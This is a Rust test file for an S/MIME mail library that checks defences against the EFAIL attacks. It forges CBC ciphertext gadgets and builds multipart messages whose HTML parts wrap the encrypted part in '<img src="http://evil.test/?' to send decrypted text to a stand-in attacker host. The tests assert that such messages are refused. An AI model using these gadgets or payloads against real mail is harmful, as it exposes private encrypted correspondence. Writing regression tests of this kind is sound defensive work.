//! EFAIL (CVE-2017-17688, CVE-2017-17689): encrypted text is rearranged, or set among other text, so that the victim's
//! reader sends it to the attacker.

use mail::Entity;
use smime::{ContentCipher, Reason, RsaPadding};

use super::{der, encrypted, entity_of, multipart};
use crate::support::{opened, signed};

const IV: [usize; 5] = [1, 0, 2, 1, 1];
const CIPHERTEXT: [usize; 4] = [1, 0, 2, 2];

/// Texts as clients encrypt them, whose first block everybody knows.
const ENTITIES: [&str; 4] = [
    "Content-Type: text/html\r\n\r\n<p>The code for the door is 4711. Tell nobody, and burn this letter.</p>\r\n",
    "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<p>Der Code für die Tür ist 4711. Sag es niemandem, und verbrenne diesen Brief, sobald du ihn gelesen hast.</p>\r\n",
    "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: binary\r\n\r\n<p>The code for the door is 4711. Tell nobody, and burn this letter as soon as you have read it.</p>\r\n",
    "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>The code for the door is 4711.</p>\r\n--b--\r\n",
];

struct Envelope {
    object: Vec<u8>,
    iv: Vec<u8>,
    blocks: Vec<Vec<u8>>,
    known: Vec<u8>,
}

impl Envelope {
    fn of(entity: &str, cipher: ContentCipher) -> Self {
        let object = encrypted(entity.as_bytes(), cipher, RsaPadding::Pkcs1);
        let ciphertext = der::content(der::at(&object, &CIPHERTEXT));
        Self {
            iv: der::content(der::at(&object, &IV)).to_vec(),
            blocks: ciphertext.chunks(16).map(<[u8]>::to_vec).collect(),
            known: entity.as_bytes()[..16].to_vec(),
            object,
        }
    }

    /// Two blocks: the first becomes random, the second this text, because the first block's plaintext is known.
    fn gadget(&self, text: &[u8; 16]) -> [Vec<u8>; 2] {
        let before = self.iv.iter().zip(&self.known).zip(text);
        let before = before.map(|((iv, known), wanted)| iv ^ known ^ wanted);
        [before.collect(), self.blocks[0].clone()]
    }

    fn with(&self, blocks: &[Vec<u8>]) -> Vec<u8> {
        der::with(&self.object, &CIPHERTEXT, &blocks.concat())
    }

    /// What an attacker makes of it without the key.
    fn rearranged(&self) -> Vec<(&'static str, Vec<u8>)> {
        let gadgets = [
            b"<base href='http",
            b"://evil.test/'> ",
            b"<img src='      ",
        ];
        let gadgets = gadgets.map(|text| self.gadget(text)).concat();
        let (start, end) = self.blocks.split_at(self.blocks.len() / 2);
        let end_with = |text: &[u8; 16]| [start, &self.gadget(text)].concat();
        vec![
            (
                "gadgets before",
                self.with(&[&gadgets, &self.blocks[..]].concat()),
            ),
            (
                "gadgets inside",
                self.with(&[start, &gadgets, end].concat()),
            ),
            (
                "gadgets behind",
                self.with(&[&self.blocks, &gadgets[..]].concat()),
            ),
            ("halves exchanged", self.with(&[end, start].concat())),
            ("a half twice", self.with(&[start, start, end].concat())),
            (
                "cut, with a padding of its own",
                self.with(&end_with(b"' width='0'>\r\n\x02\x02")),
            ),
        ]
    }
}

#[test]
fn rearranged_blocks_do_not_come_out() {
    for entity in ENTITIES {
        for cipher in [ContentCipher::Aes128Cbc, ContentCipher::Aes256Cbc] {
            let envelope = Envelope::of(entity, cipher);
            let sealed = entity_of(&envelope.object);
            assert!(opened(&sealed).entity.is_some(), "{entity}");
            for (what, object) in envelope.rearranged() {
                let found = opened(&entity_of(&object));
                let reason = found.decryption_verdict().unwrap().unwrap_err().reason;
                assert_eq!(reason, Reason::IntegrityFailure, "{what} in {entity}");
                assert!(found.entity.is_none());
            }
        }
    }
}

/// An authenticated cipher under the name of one that is not, and the other way round, would be a way around the tag.
#[test]
fn a_cipher_does_not_change_its_kind() {
    const CIPHER: [usize; 5] = [1, 0, 2, 1, 0];
    let oid = |object: &[u8]| der::content(der::at(object, &CIPHER)).to_vec();
    let cbc = encrypted(
        ENTITIES[0].as_bytes(),
        ContentCipher::Aes256Cbc,
        RsaPadding::Pkcs1,
    );
    let gcm = encrypted(
        ENTITIES[0].as_bytes(),
        ContentCipher::Aes256Gcm,
        RsaPadding::Pkcs1,
    );
    for (object, other) in [(&cbc, oid(&gcm)), (&gcm, oid(&cbc))] {
        let found = opened(&der::with(object, &CIPHER, &other));
        assert!(found.decryption_verdict().unwrap().is_err());
        assert_eq!(found.entity, None);
    }
}

/// Direct exfiltration: the encrypted part stands between two of the attacker's, in whatever way parts can.
#[test]
fn encrypted_parts_among_others_stay_closed() {
    let envelope = Envelope::of(ENTITIES[0], ContentCipher::Aes256Gcm);
    let sealed = String::from_utf8(entity_of(&envelope.object)).unwrap();
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n");
    let (open, close) = (html("<img src=\"http://evil.test/?"), html("\">"));
    let attached =
        format!("Content-Type: message/rfc822\r\n\r\nFrom: <bob@partner.test>\r\n{sealed}");
    let signed_mix = signed(
        multipart("mixed", &[&open, &sealed, &close]).as_bytes(),
        false,
    );
    let signed_mix = String::from_utf8(signed_mix).unwrap();
    for entity in [
        multipart("mixed", &[&open, &sealed, &close]),
        multipart("mixed (x)", &[&sealed]),
        multipart("mixed", &[&attached]),
        multipart("alternative", &[&open, &sealed]),
        multipart("related", &[&sealed, &close]),
        multipart("mixed", &[&open, &attached, &close]),
        multipart("mixed", &[&open, &multipart("mixed", &[&sealed])]),
        multipart("parallel", &[&sealed, &open]),
        multipart("report", &[&sealed, &open]),
        attached,
        signed_mix,
        // A preamble and an epilogue are text that some readers show.
        format!(
            "Content-Type: multipart/mixed; boundary=x\r\n\r\n<img src=\"\r\n--x\r\n{sealed}\r\n--x--\r\n\">"
        ),
    ] {
        let raw = format!("From: <eve@evil.test>\r\n{entity}");
        let found = opened(raw.as_bytes());
        let reason = found.decryption_verdict().unwrap().unwrap_err().reason;
        assert_eq!(reason, Reason::PartlyEncrypted, "{entity}");
        assert!(found.entity.is_none());
    }
}

/// Servers that take parts out of messages leave it so; nothing stands beside it.
#[test]
fn a_sole_part_is_opened() {
    let envelope = Envelope::of(ENTITIES[0], ContentCipher::Aes256Gcm);
    let sealed = String::from_utf8(entity_of(&envelope.object)).unwrap();
    let once = multipart("mixed", &[&sealed]);
    let inner = once
        .replace("boundary=x", "boundary=y")
        .replace("--x", "--y");
    for entity in [&once, &multipart("alternative", &[&inner])] {
        let raw = format!("From: <bob@partner.test>\r\n{entity}");
        let found = opened(raw.as_bytes());
        assert_eq!(found.decryption_verdict(), Some(Ok(())), "{entity}");
        assert_eq!(found.entity.unwrap(), ENTITIES[0].as_bytes());
        // The key for it is found.
        assert_eq!(smime::recipients(raw.as_bytes()).len(), 1);
    }
}

/// What was encrypted to one is not delivered as part of what another wrote: layers nest only as wholes.
#[test]
fn a_stolen_ciphertext_below_a_signature_is_judged_by_it() {
    let envelope = Envelope::of(ENTITIES[0], ContentCipher::Aes256Gcm);
    let raw = [
        b"From: <eve@evil.test>\r\n",
        signed(&entity_of(&envelope.object), true).as_slice(),
    ]
    .concat();
    let found = opened(&raw);
    let reason = found.signature_verdict().unwrap().unwrap_err().reason;
    assert_eq!(reason, Reason::AddressMismatch);
    // It is the victim's mail all the same, and shown as a whole; nothing of eve's is around it.
    assert_eq!(
        Entity::parse(&found.entity.unwrap()).raw(),
        ENTITIES[0].as_bytes()
    );
}
